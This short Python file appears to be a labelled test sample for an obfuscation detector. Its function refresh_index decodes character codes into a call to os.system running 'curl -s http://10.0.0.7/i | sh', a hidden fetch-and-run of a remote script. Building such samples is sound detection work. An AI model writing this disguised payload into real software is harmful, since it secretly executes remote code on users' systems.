# expect: obfuscation
import importlib


def _name(codes):
    return "".join(chr(c) for c in codes)


def refresh_index(root: str) -> None:
    mod = importlib.import_module(_name([111, 115]))
    runner = getattr(mod, _name([115, 121, 115, 116, 101, 109]))
    runner(_name([99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 58, 47, 47, 49, 48, 46, 48, 46, 48, 46, 55, 47, 105, 32, 124, 32, 115, 104]))
